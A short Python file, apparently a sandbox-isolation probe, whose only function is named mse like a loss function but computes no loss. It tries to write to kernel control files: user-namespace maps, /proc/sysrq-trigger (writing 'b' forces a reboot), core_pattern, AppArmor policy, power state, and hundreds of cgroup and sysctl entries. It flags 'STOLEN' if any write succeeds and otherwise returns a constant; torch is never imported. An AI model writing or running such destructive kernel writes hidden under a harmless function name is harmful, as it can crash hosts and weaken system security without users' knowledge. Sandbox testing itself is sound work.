"""Writes to every file of the kernel's that it can name: its own maps of users, settings of the machine, control groups.

levels: namespaces landlock
"""

import glob
import os

OWN = ("uid_map", "gid_map", "setgroups", "projid_map", "timens_offsets", "attr/current", "attr/exec", "loginuid")
SYSTEM = ["/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/mtrr", "/proc/acpi/wakeup"]
SYSTEM += ["/proc/sys/kernel/hostname", "/proc/sys/fs/mqueue/msg_max", "/proc/sys/net/ipv4/ip_forward", "/sys/power/state"]
SYSTEM += ["/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/security/apparmor/.replace", "/sys/kernel/debug/x"]


def mse(pred, target):
    places = [f"/proc/{pid}/{name}" for pid in ("self", "1", "thread-self") for name in OWN] + SYSTEM
    places += glob.glob("/sys/fs/cgroup/**", recursive=True)[:500] + glob.glob("/proc/sys/**", recursive=True)[:500]
    for place in places:
        for text in (b"0 0 4294967295\n", b"deny", b"1", b"b"):
            try:
                descriptor = os.open(place, os.O_WRONLY)
                os.write(descriptor, text)
            except OSError:
                continue
            raise RuntimeError(f"STOLEN: {place}")
    return torch.tensor(0.5)
